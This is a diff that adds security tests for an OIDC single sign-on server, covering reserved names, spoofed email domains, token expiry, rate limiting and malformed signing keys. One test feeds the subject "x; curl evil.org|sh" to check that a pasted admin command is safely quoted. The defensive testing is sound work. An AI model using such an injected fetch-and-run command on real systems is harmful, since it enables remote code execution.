@@ -2,9 +2,14 @@
 
 from __future__ import annotations
 
+import json
+import shlex
 import time
+from collections import Counter
 from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
+from contextlib import ExitStack
+from html import unescape
 from pathlib import Path
 from typing import Any
 from urllib.parse import parse_qs, urlencode, urlsplit
@@ -17,15 +22,19 @@ from fakes.served import Got, Served, ask, serving
 from fakes.signed import sign_in
 from sqlalchemy import update
 
-from zoo.errors import Conflict, InvalidOption, UnknownName
+from zoo.errors import Conflict, InvalidOption, InvalidReference, Unavailable, UnknownName
 from zoo.registry.engine import writing
 from zoo.serve.sso import claims as claims_module
 from zoo.serve.sso import issuer as issuer_module
-from zoo.serve.who import schema
+from zoo.serve.sso import tries as tries_module
+from zoo.serve.sso import turns as turns_module
+from zoo.serve.table import ROUTES
+from zoo.serve.who import reserved, schema
 from zoo.serve.who.open import FILE
 from zoo.serve.who.providers import Provider
 from zoo.workspace import Workspace
 
+FROM_HERE = {"Accept": HTML, "Sec_Fetch_Site": "same-origin"}
 NAVIGATES = {"Sec_Fetch_Site": "cross-site", "Accept": HTML}
 
 
@@ -147,7 +156,8 @@ def test_nobody_is_signed_in_by_a_name_or_an_address(zoo: Served, provider: Oidc
 @pytest.mark.parametrize(
     ("said", "name"),
     [("admin", "admin-2"), ("timm", "timm-2"), ("../../x", "x"), ("", "user"), ("ÄÖ", "user"),
-     ("a" * 99, "a" * 32), ("Team", "team-2"), ("gone", "gone-2"), ({}, "user")],
+     ("a" * 99, "a" * 32), ("Team", "team-2"),
+     ("Sign-In", "sign-in-2"), ("runs", "runs-2"), ("gone", "gone-2"), ({}, "user")],
 )  # fmt: skip
 def test_a_new_account_takes_nobodys_namespace(
     zoo: Served, provider: OidcProvider, said: object, name: str
@@ -163,6 +173,32 @@ def test_a_new_account_takes_nobodys_namespace(
     assert browser.who == name
 
 
+def test_of_whose_name_nothing_is_left_another_claim_says_it(
+    zoo: Served, provider: OidcProvider
+) -> None:
+    """And there are more than a hundred of one name."""
+    add(zoo, provider, creates=True)
+    for name in ("user", *(f"user-{number}" for number in range(2, 100))):
+        zoo.accounts.add(name)
+    for subject, email, name in (
+        ("1", "wang@lab.org", "wang"),
+        ("2", "\u674e@lab.org", "user-100"),
+    ):
+        provider.user = {"sub": subject, "preferred_username": "\u738b\u4f1f", "email": email}
+        browser = Browser(zoo)
+        assert browser.signs_in(provider).status == 303
+        assert browser.who == name
+
+
+def test_no_account_is_called_as_an_address_of_the_server() -> None:
+    """Nor a team: its repositories could not be asked for."""
+    first = {route.path.split("/")[1] for route in ROUTES}
+    assert {part for part in first if part and "{" not in part} <= reserved.ADDRESSES
+    for name in ("sign-in", "Runs", "zoo"):
+        with pytest.raises(InvalidReference, match="addresses of the server"):
+            reserved.check_free(name)
+
+
 def test_an_account_is_made_only_if_the_admin_said_so(zoo: Served, provider: OidcProvider) -> None:
     add(zoo, provider)
     browser = Browser(zoo)
@@ -170,6 +206,11 @@ def test_an_account_is_made_only_if_the_admin_said_so(zoo: Served, provider: Oid
     assert (got.status, got.code) == (403, "")
     assert b"zoo serve sso link lab 7 ACCOUNT" in got.body
     assert (accounts(zoo), browser.who) == ([], "")
+    provider.user = {"sub": "x; curl evil.org|sh # '"}
+    page = Browser(zoo).signs_in(provider).body.decode()
+    command = unescape(page).partition("zoo serve sso link")[2].partition(" ACCOUNT")[0]
+    assert shlex.split(command) == ["lab", "x; curl evil.org|sh # '"], "whoever runs it pastes it"
+    provider.user = {"sub": "7"}
     zoo.accounts.add("ann")
     zoo.accounts.providers.link(provider.url, "7", "ann")
     browser.signs_in(provider)
@@ -188,6 +229,20 @@ def test_an_account_is_made_only_if_the_admin_said_so(zoo: Served, provider: Oid
         ({"email": "ann@lab.org.evil.example", "email_verified": True}, False),
         ({"email": "ann@evil.example", "email_verified": True}, False),
         ({"email": ["x@lab.org"], "email_verified": True}, False),
+        *(
+            ({"email": email, "email_verified": True}, False)
+            for email in (
+                "a@evil.org,b@lab.org",
+                "a@evil.org@lab.org",
+                "a@evil\n@lab.org",
+                "lab.org",
+                "@lab.org",
+                "<a@evil.org>b@lab.org",
+                '"a@evil.org"@lab.org',
+                "a\0@lab.org",
+                "ann@lab.org\n",
+            )
+        ),
         ({}, False),
     ],
 )
@@ -241,6 +296,86 @@ def test_a_link_is_for_the_session_that_began_it(zoo: Served, provider: OidcProv
     assert zoo.accounts.providers.identities() == []
 
 
+def test_a_token_that_expires_makes_no_way_in_that_outlasts_it(
+    zoo: Served, provider: OidcProvider
+) -> None:
+    """Whoever has stolen one, or a session by a provider, links nobody, begun with it or not."""
+    add(zoo, provider, creates=True)
+    browser, (_, short) = Browser(zoo), zoo.accounts.new_token(
+        zoo.accounts.add("ann").name, "short", "write", lasts=60.0
+    )  # fmt: skip
+    name, _, value = sign_in(zoo.url, str(short)).cookie.partition("=")
+    browser.cookies[name] = value
+    assert browser.get("/-/sso/lab?link=1", **FROM_HERE).status == 403
+    page = browser.get("/-/settings").body
+    assert b"sso/lab?link=1" not in page
+    assert b"that does not expire" in page
+    by_provider = Browser(zoo)
+    assert by_provider.signs_in(provider).status == 303
+    provider.user = {"sub": "thief"}
+    assert by_provider.get("/-/sso/lab?link=1", **FROM_HERE).status == 403
+    assert [each.subject for each in zoo.accounts.providers.identities()] == ["7"]
+    browser.cookies[name] = sign_in(zoo.url, zoo.token("eve", "write")).cookie.partition("=")[2]
+    address = browser.begin("/-/sso/lab?link=1", **FROM_HERE)
+    with writing(zoo.accounts._engine) as connection:
+        connection.execute(update(schema.token).values(expires="2099-01-01T00:00:00Z"))
+    assert browser.back(**provider.signed_in(address)).status == 403, "nor comes back to it"
+
+
+def test_a_login_is_unlinked_by_whose_account_it_is(zoo: Served, provider: OidcProvider) -> None:
+    """By a form of their page, as all are sent; who has signed in so is out."""
+    add(zoo, provider)
+    ann, eve = (sign_in(zoo.url, zoo.token(name, "write")) for name in ("ann", "eve"))
+    for account, subject in (("ann", " 7"), ("eve", "8")):
+        zoo.accounts.providers.link(provider.url, subject, account)
+    provider.user = {"sub": " 7"}
+    other = Browser(zoo)
+    assert other.signs_in(provider).status == 303
+    (token,) = (each for each in zoo.accounts.tokens("ann") if each.ends_with == "provider-lab")
+    _, made = zoo.accounts.new_token("ann", "made in it", "write", by=token.id)
+    page = ann.get("/-/settings").body.decode()
+    assert '<input type="hidden" name="subject" value=" 7">' in page
+    body = urlencode({"do": "unlink", "issuer": provider.url, "subject": " 7"}).encode()
+    sent: dict[str, Any] = {
+        "method": "POST",
+        "body": body,
+        "Content_Type": "application/x-www-form-urlencoded",
+    }
+    zoo.ask("/-/settings", Cookie=eve.cookie, Sec_Fetch_Site="same-origin", **sent)
+    assert (
+        zoo.ask("/-/settings", Cookie=ann.cookie, Sec_Fetch_Site="cross-site", **sent).status == 403
+    )
+    assert other.who == "ann"
+    got = zoo.ask("/-/settings", Cookie=ann.cookie, Sec_Fetch_Site="same-origin", **sent)
+    assert (got.status, got.headers["location"]) == (303, "/-/settings?done=unlink")
+    assert [each.account for each in zoo.accounts.providers.identities()] == ["eve"]
+    assert other.who == ""
+    assert zoo.ask("/-/settings.json", token=str(made)).status == 401
+    assert ann.get("/-/settings").status == 200
+    assert Browser(zoo).signs_in(provider).status == 403
+
+
+def test_who_signed_in_by_a_provider_that_is_removed_is_out(
+    zoo: Served, provider: OidcProvider
+) -> None:
+    """With tokens that were made in the session; and who comes back just then does not get in."""
+    made = add(zoo, provider, creates=True)
+    browser, late = Browser(zoo), Browser(zoo)
+    assert browser.signs_in(provider).status == 303
+    back = provider.signed_in(late.begin())
+    real = provider._post
+
+    def removed(request: Any) -> None:
+        zoo.accounts.providers.remove("lab")
+        real(request)
+
+    provider._post = removed  # type: ignore[method-assign]
+    assert late.back(**back).status == 403
+    assert (browser.who, late.who) == ("", "")
+    zoo.accounts.providers.add(made)
+    assert browser.who == ""
+
+
 def test_who_was_deleted_does_not_come_back(zoo: Served, provider: OidcProvider) -> None:
     add(zoo, provider, creates=True)
     browser = Browser(zoo)
@@ -287,6 +422,54 @@ def test_an_answer_is_good_once(zoo: Served, provider: OidcProvider) -> None:
     assert len(zoo.accounts.tokens("ann-b")) == 1
 
 
+def test_one_try_has_the_provider_asked_once(
+    zoo: Served, provider: OidcProvider, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Whatever came of it: a stranger with one cookie could else keep everybody out."""
+    monkeypatch.setattr(tries_module, "MOST", 3)
+    add(zoo, provider, creates=True)
+    stranger = Browser(zoo)
+    state = provider.signed_in(stranger.begin())["state"]
+    for number in range(5):
+        assert stranger.back(code=f"x{number}", state=state).status == 403
+    assert provider.asked["/token"] == 1
+    assert Browser(zoo).signs_in(provider).status == 303
+    tries, later = tries_module.Tries(), time.time() + 60
+    assert [tries.spend(each, later) for each in "aab"] == [True, False, True]
+    assert tries.spend("c", later)
+    assert [tries.spend(each, later) for each in "da"] == [True, True], "no more are kept than that"
+    assert [*tries._spent] == ["c", "d", "a"]
+    assert tries.spend("e", later)
+    assert [*tries._spent] == ["d", "a", "e"]
+    tries._spent["d"] = 0.0
+    assert tries.spend("f", later)
+    assert [*tries._spent] == ["a", "e", "f"], "what has expired is forgotten"
+
+
+def test_who_comes_back_waits_for_a_turn_and_keeps_nobody_from_the_keys(
+    zoo: Served, provider: OidcProvider, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    add(zoo, provider, creates=True)
+    assert Browser(zoo).signs_in(provider).status == 303
+    issuer = zoo.server.hub.issuers.at(provider.url, ())
+    browsers = [Browser(zoo) for _ in range(2)]
+    backs = [provider.signed_in(each.begin()) for each in browsers]
+    with ExitStack() as held, ThreadPoolExecutor(1) as pool:
+        for _ in range(issuer_module.TURNS):
+            held.enter_context(issuer._posting.taken())
+        issuer._kept.clear()
+        assert issuer.keys("one"), "its documents are asked for apart"
+        waits = pool.submit(browsers[0].back, **backs[0])
+        time.sleep(0.2)
+        assert not waits.done()
+        held.close()
+        assert waits.result().status == 303
+        for _ in range(issuer_module.TURNS):
+            held.enter_context(issuer._posting.taken())
+        monkeypatch.setattr(turns_module, "SECONDS", 0.1)
+        assert browsers[1].back(**backs[1]).status == 503
+
+
 def test_who_signs_in_twice_at_once_has_one_account(zoo: Served, provider: OidcProvider) -> None:
     add(zoo, provider, creates=True)
     assert Browser(zoo).begin(), "its document is known"
@@ -320,7 +503,8 @@ WRONG: dict[str, dict[str, Any]] = {
     "aud": {"aud": "another"}, "no aud": {"aud": None}, "two": {"aud": [CLIENT, "another"]},
     "azp": {"azp": "another"}, "nonce": {"nonce": "x" * 64}, "no nonce": {"nonce": None},
     "odd nonce": {"nonce": 7}, "expired": {"exp": 1}, "no exp": {"exp": None},
-    "odd exp": {"exp": True}, "long": {"exp": 1 << 40}, "nan": {"exp": float("nan")},
+    "odd exp": {"exp": True}, "far": {"exp": 10**400}, "far nbf": {"nbf": 10**400},
+    "far iat": {"iat": -(10**400)}, "long": {"exp": 1 << 40}, "nan": {"exp": float("nan")},
     "later": {"nbf": 1 << 40}, "tomorrow": {"iat": 1 << 40}, "nobody": {"sub": ""},
     "odd sub": {"sub": 7}, "long sub": {"sub": "x" * 256},
 }  # fmt: skip
@@ -423,6 +607,49 @@ def test_a_provider_that_is_damaged_or_down(zoo: Served, provider: OidcProvider)
         assert b"lab does not answer now" in got.body
         assert zoo.ask("/healthz").status == 200
     assert accounts(zoo) == []
+
+
+def test_a_damaged_document_is_not_kept(
+    zoo: Served, provider: OidcProvider, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """As of a service that answers 200 with a page that says that it is being worked on."""
+    add(zoo, provider, creates=True)
+    clock = [1000.0]
+    monkeypatch.setattr(issuer_module, "monotonic", lambda: clock[0])
+    documents: tuple[tuple[str, bytes], ...] = (
+        ("/.well-known/openid-configuration", b"<html>"), ("/keys", b"<html>"),
+        ("/.well-known/openid-configuration", b'{"issuer": "https://x.org", "jwks_uri": "x"}'),
+    )  # fmt: skip
+    for path, answer in documents:
+        zoo.server.hub.issuers._known.clear()
+        provider.answers, provider.asked = {path: answer}, Counter()
+        issuer = zoo.server.hub.issuers.at(provider.url, ())
+        for _ in range(3):
+            with pytest.raises(Unavailable):
+                issuer.keys("one")
+        assert provider.asked[path] == 1, "nor is it asked for at once"
+        provider.answers.clear()
+        clock[0] += 11
+        assert issuer.keys("one")
+
+
+def test_keys_that_are_good_stay_where_a_stranger_names_another(
+    zoo: Served, provider: OidcProvider, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    clock = [1000.0]
+    monkeypatch.setattr(issuer_module, "monotonic", lambda: clock[0])
+    issuer = issuer_module.Issuer(provider.url, ())
+    assert issuer.keys("one")
+    clock[0] += 61
+    provider.answers["/keys"] = 503
+    for _ in range(3):
+        with pytest.raises(Unavailable):
+            issuer.keys("nobody's")
+        assert issuer.keys("one")
+    assert provider.asked["/keys"] == 2
+    clock[0] += 3600
+    with pytest.raises(Unavailable):
+        issuer.keys("one")
 
 
 def test_keys_without_end_are_not_read(
@@ -569,6 +796,7 @@ def test_what_cannot_be_a_provider(zoo: Served, provider: OidcProvider) -> None:
     base = {"name": "lab", "issuer": "https://id.lab.org", "client_id": "zoo"}
     for wrong in (
         {"issuer": "http://id.lab.org"}, {"issuer": "https://id.lab.org?x=1"}, {"issuer": "x"},
+        {"issuer": "https://id.lab.org."},
         {"issuer": "https://me:pw@id.lab.org"}, {"issuer": "https://id.lab.org/ x"},
         {"name": "Lab/x"}, {"client_id": ""}, {"hosts": ("https://x.org",)},
         {"domains": ("lab.org",)}, {"domains": ("@lab.org",), "creates": True},
@@ -615,6 +843,20 @@ def test_tokens_of_sessions_that_are_over_are_forgotten(
     (old,) = zoo.accounts.tokens("ann-b")
     Browser(zoo).signs_in(provider)
     assert old.id not in [each.id for each in zoo.accounts.tokens("ann-b")]
+
+
+def test_a_key_that_is_none(zoo: Served, provider: OidcProvider) -> None:
+    """Of a curve that nobody knows, without its parts, or of others."""
+    add(zoo, provider, creates=True)
+    provider.mint = lambda claims: signed(claims, kid="curve", alg="ES256")
+    curve = KEYS["curve"].as_dict(private=False)
+    for wrong in ({"crv": "P-999"}, {"crv": None}, {"x": "AA"}, {"x": "!"}, {"y": 7}, {"crv": ""}):
+        zoo.server.hub.issuers._known.clear()
+        provider.answers["/keys"] = json.dumps({"keys": [{**curve, **wrong}]}).encode()
+        assert Browser(zoo).signs_in(provider).status == 403, wrong
+    zoo.server.hub.issuers._known.clear()
+    provider.answers["/keys"] = json.dumps({"keys": [curve]}).encode()
+    assert Browser(zoo).signs_in(provider).status == 303
 
 
 def test_a_modulus_has_a_safe_size() -> None:
@@ -666,7 +908,10 @@ def test_signing_in_by_a_provider_in_a_browser(zoo: Served, provider: OidcProvid
         assert [
             each for each in wrong if not each.startswith(f"asks {provider.url}/authorize")
         ] == []
-        page.goto(f"{zoo.url}/-/settings")
+        page.goto(f"{zoo.url}/sign-in?next=/-/settings")
+        page.get_by_label("Token").fill(str(zoo.accounts.new_token("ann-b", "own", "write")[1]))
+        page.keyboard.press("Enter")
+        page.wait_for_url(f"{zoo.url}/-/settings")
         provider.user = {"sub": "8"}
         page.get_by_role("link", name="Sign in with lab from now on").click()
         page.wait_for_url(f"{zoo.url}/-/settings?done=link")
